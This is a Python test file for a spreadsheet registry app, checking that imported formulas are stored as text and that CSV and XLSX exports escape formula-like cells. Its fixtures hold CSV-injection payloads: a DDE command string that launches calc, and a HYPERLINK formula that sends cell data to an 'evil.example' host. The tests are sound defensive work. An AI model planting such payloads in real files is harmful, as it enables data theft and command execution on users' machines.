"""Formula injection, end to end: a spreadsheet imported into the registry, then every export
opened the way a person would open it.

Import (server/registry/untrusted.py): a formula cell is its formula text, never evaluated and
never its cached value. In a text column the text is stored literally; in a number, date or
choice column the row is rejected with the reason (a crafted file can carry a cached value that
differs from what the formula shows). Texts that merely look like formulas (`+cmd|' /C calc'!A0`,
`@SUM(...)`, `-2+3`) are text and stored as they are.

Export (server/exports/cells.py, used by workbook.py and nrii.py): text starting with = + - @ tab
or carriage return gets a leading apostrophe (OWASP CSV injection); XLSX cells are written as
strings (inline strings, data type 's'), never as formulas; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import psycopg
import pytest
from openpyxl import Workbook, load_workbook

from server.evaluation import privacy
from server.evaluation.period import Period
from server.exports import nrii
from server.exports.cells import DANGEROUS, cell_value, csv_value, safe_text
from server.registry import importer
from tests.web.conftest import Web

HEADER = ["所在单位仪器编号", "仪器名称", "原值（元）", "安放地址", "规格型号"]
LOOK_ALIKES = ["+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
               "\t=1+1", "\r=1+1"]
FORMULAS = {"F-1": '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")', "F-2": "=1+1",
            "F-3": "=cmd|' /C calc'!A0"}


def _save(wb: Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _string_cell(ws: Any, ref: str, text: str) -> None:
    """A cell holding `text` as a string even when it starts with = (what a cell formatted as text holds)."""
    cell = ws[ref]
    cell._value = text
    cell.data_type = "s"


def ledger_with_formulas() -> bytes:
    """Real formula cells (data type 'f') in text columns, and look-alike texts as string cells."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADER)
    for i, (no, formula) in enumerate(FORMULAS.items(), start=2):
        ws.append([no, formula, 1000000, formula, "x"])
        assert ws[f"B{i}"].data_type == "f"
    for j, text in enumerate(LOOK_ALIKES):
        row = len(FORMULAS) + 2 + j
        ws.append([f"L-{j}", "x", 1000000, "x", "x"])
        _string_cell(ws, f"B{row}", text)
        _string_cell(ws, f"E{row}", text)
    return _save(wb)


def ledger_with_cached_value() -> bytes:
    """原值 as a formula whose cached value (what Excel last computed, or what a forger wrote) is 2,000,000."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADER)
    ws.append(["C-1", "缓存值", "=1000*2", "x", "x"])
    data = _save(wb)
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert b"<f>1000*2</f><v />" in body
                body = body.replace(b"<f>1000*2</f><v />", b"<f>1000*2</f><v>2000000</v>")
            z.writestr(info, body)
    return out.getvalue()


@pytest.fixture
def conn(web: Web) -> Iterator[psycopg.Connection[Any]]:
    with psycopg.connect(web.dsn) as c:
        c.execute("SELECT audit_as('test-formula', true)")
        c.commit()
        yield c


@pytest.fixture
def imported(web: Web, conn: psycopg.Connection[Any]) -> dict[str, str]:
    """The formula ledger imported into unit ua, plus service records with look-alike texts; the
    names as stored (internal_no -> name)."""
    report = importer.run_import(conn, "instruments", "ua", ledger_with_formulas(), "台账.xlsx")
    assert report.status == "committed", report.text()
    rows = [["仪器编号", "服务开始时间", "服务结束时间", "服务机时", "用户类型", "申请人", "服务内容", "金额"]]
    rows += [["ua-xrd", f"2025-04-{10 + i} 09:00", f"2025-04-{10 + i} 11:00", "2", "外部", text, text, "100"]
             for i, text in enumerate(LOOK_ALIKES)]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    report = importer.run_import(conn, "services", "ua", buf.getvalue().encode("utf-8-sig"), "服务.csv")
    assert report.status == "committed", report.text()
    return dict(web.sql("SELECT internal_no, name FROM instruments WHERE unit_id = 'ua' AND internal_no IS NOT NULL"))


def test_formulas_are_stored_as_their_text(web: Web, imported: dict[str, str]) -> None:
    for no, formula in FORMULAS.items():
        assert imported[no] == formula  # the formula, as written: not evaluated, not dropped
    for j, text in enumerate(LOOK_ALIKES):
        assert imported[f"L-{j}"] == text.strip()  # text cells are trimmed as every text is
    locations = dict(web.sql("SELECT internal_no, location FROM instruments WHERE internal_no LIKE 'F-%'"))
    assert locations == FORMULAS
    stored = {r[0] for r in web.sql("SELECT applicant_name FROM service_records WHERE unit_id = 'ua'")}
    assert {t.strip() for t in LOOK_ALIKES} <= stored


def test_a_formula_where_a_number_belongs_rejects_the_row(web: Web, conn: psycopg.Connection[Any]) -> None:
    report = importer.run_import(conn, "instruments", "ua", ledger_with_cached_value(), "台账.xlsx")
    assert report.status == "rejected"
    [row] = report.rows
    assert row.status == "rejected" and any("公式" in e and "1000*2" in e for e in row.errors), row.errors
    assert web.sql("SELECT count(*) FROM instruments WHERE internal_no = 'C-1'") == [(0,)]


def test_a_formula_in_a_date_or_choice_column_rejects_the_row(web: Web, conn: psycopg.Connection[Any]) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([*HEADER, "验收日期", "仪器类别"])
    ws.append(["D-1", "日期公式", 1000000, "x", "x", "=TODAY()", "通用"])
    ws.append(["D-2", "类别公式", 1000000, "x", "x", "2020-01-01", '=IF(1,"通用","专用")'])
    report = importer.run_import(conn, "instruments", "ua", _save(wb), "台账.xlsx")
    assert [r.status for r in report.rows] == ["rejected", "rejected"], report.text()
    assert all(any("公式" in e for e in r.errors) for r in report.rows)


def _dangerous(text: str) -> bool:
    return text.startswith(DANGEROUS)


def test_nrii_csv_escapes_every_formula_like_text(web: Web, imported: dict[str, str], tmp_path: Path) -> None:
    with psycopg.connect(web.dsn) as conn:
        files = nrii.export(conn, Period.year(2025), tmp_path, privacy.load(conn), ["ua"], include_names=True)
    seen: list[str] = []
    for path in (files.instruments_csv, files.services_csv):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _dangerous(cell), (path.name, cell)
                    seen.append(cell)
    for formula in FORMULAS.values():
        assert "'" + formula in seen
    for text in LOOK_ALIKES:
        assert "'" + text.strip() in seen, text  # instrument names and applicants alike
    assert "-2+3" not in seen and "'-2+3" in seen


def _cells(data: bytes) -> Iterator[Any]:
    wb = load_workbook(io.BytesIO(data), data_only=False)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


@pytest.mark.parametrize(("login", "path"), [("mgr-a", "/api/v1/evaluation/2025/units/ua/workbook.xlsx"),
                                             ("eva", "/api/v1/evaluation/2025/region/workbook.xlsx")])
def test_served_workbooks_hold_no_formula(web: Web, imported: dict[str, str], login: str, path: str) -> None:
    r = web.as_(login).get(path)
    assert r.status_code == 200, r.text[:300]
    texts: list[str] = []
    for cell in _cells(r.content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not _dangerous(cell.value), (cell.coordinate, cell.value)
            texts.append(cell.value)
    assert "'" + FORMULAS["F-2"] in texts, "the unit's instruments are in the workbook, escaped"
    assert "'-2+3" in texts


def test_cells_helpers() -> None:
    assert safe_text("=1+1") == "'=1+1"
    assert [safe_text(t) for t in ("+1", "-1", "@x", "\t=1", "\r=1")] == ["'+1", "'-1", "'@x", "'\t=1", "'\r=1"]
    assert safe_text("普通文字") == "普通文字" and safe_text("a=1") == "a=1" and safe_text("") == ""
    assert cell_value(-2) == -2 and cell_value(Decimal("-2.5")) == Decimal("-2.5")  # numbers stay numbers
    assert csv_value("-2+3") == "'-2+3" and csv_value(-5) == "-5"
